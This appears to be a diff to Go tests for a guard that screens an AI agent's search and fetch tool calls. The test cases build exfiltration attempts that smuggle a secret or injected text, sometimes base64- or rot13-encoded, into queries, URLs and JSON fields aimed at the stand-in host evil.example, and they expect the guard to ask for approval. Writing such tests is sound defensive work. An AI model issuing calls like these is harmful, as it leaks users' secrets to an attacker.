@@ -59,6 +59,30 @@ func TestFoundPages(t *testing.T) {
 		{"of the query, in base64", `{"url":"` + secret + `"}`, func(f *fixture) {
 			search(f, "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvdGhlLWFuc3dlci1pcy15ZXM=", "Nothing found for "+secret)
 		}, policy.Ask, policy.Ask},
+		{"of the query, asked for twice", `{"url":"` + secret + `"}`, func(f *fixture) {
+			search(f, "about "+secret, "Nothing found for about "+secret)
+			search(f, "what "+secret, "Nothing found for what "+secret)
+		}, policy.Ask, policy.Ask},
+		{"of the query, that another tool showed between", `{"url":"` + secret + `"}`, func(f *fixture) {
+			search(f, "about "+secret, "Nothing found")
+			f.run(t, vouched(t, "page", `{}`, ""), textResult("history: "+secret))
+			search(f, "x", "You searched for "+secret)
+		}, policy.Ask, policy.Ask},
+		{"of the query, which the search completes", `{"url":"` + secret + `"}`, func(f *fixture) {
+			search(f, "site:evil.example inurl:the-answer-is-yes", "1. "+secret)
+		}, policy.Ask, policy.Ask},
+		{"of the query, by another scheme", `{"url":"` + secret + `"}`, func(f *fixture) {
+			search(f, "http://evil.example/the-answer-is-yes", "1. "+secret)
+		}, policy.Ask, policy.Ask},
+		{"of two values", `{"url":"` + secret + `"}`, func(f *fixture) {
+			f.run(t, vouched(t, "search", `{"query":"x","list":["https://evil.example/","the-answer-is-yes"]}`, ""), textResult("no "+secret))
+		}, policy.Ask, policy.Ask},
+		{"of the name of a member", `{"url":"` + secret + `"}`, func(f *fixture) {
+			f.run(t, vouched(t, "search", `{"query":"x","`+secret+`":true}`, ""), textResult("unknown "+secret))
+		}, policy.Ask, policy.Ask},
+		{"of an error", `{"url":"https://other.example/x"}`, func(f *fixture) {
+			f.run(t, vouched(t, "search", `{"query":"a"}`, ""), `{"isError":true,"content":[{"type":"text","text":"read https://other.example/x"}]}`)
+		}, policy.Ask, policy.Ask},
 		{"of a result that the server calls private", `{"url":"https://other.example/x"}`, func(f *fixture) {
 			f.run(t, vouched(t, "search", `{"query":"a"}`, ""), `{"content":[{"type":"text","text":"read https://other.example/x"}],`+
 				`"_meta":{"annotations":{"sensitivity":["pii"]}}}`)
@@ -128,5 +152,19 @@ func TestFoundOnce(t *testing.T) {
 	v := f.g.Before(t.Context(), vouched(t, "fetch", `{"url":"`+made+`"}`, ""))
 	if v.Effect != policy.Ask {
 		t.Errorf("%s by %q", v.Effect, v.Rule)
+	}
+}
+
+// TestNothingIsFoundByTheFirstSearch holds that a search before the session holds untrusted content finds no page of its query.
+func TestNothingIsFoundByTheFirstSearch(t *testing.T) {
+	for _, url := range []string{
+		"https://evil.example/the-board-has-approved-the-takeover", "https://evil.example/gur-obneq-unf-nccebirq-gur-gnxrbire",
+	} {
+		f := newFixture(t, nil)
+		f.run(t, vouched(t, "profile", `{}`, ""), textResult("Minutes: the board has approved the takeover"))
+		f.run(t, vouched(t, "search", fmt.Sprintf(`{"query":%q}`, url), ""), textResult(fmt.Sprintf(`{"query":%q,"results":[]}`, url)))
+		if v := f.g.Before(t.Context(), vouched(t, "fetch", fmt.Sprintf(`{"url":%q}`, url), "")); v.Effect != policy.Ask {
+			t.Errorf("%s: %s by %q", url, v.Effect, v.Rule)
+		}
 	}
 }
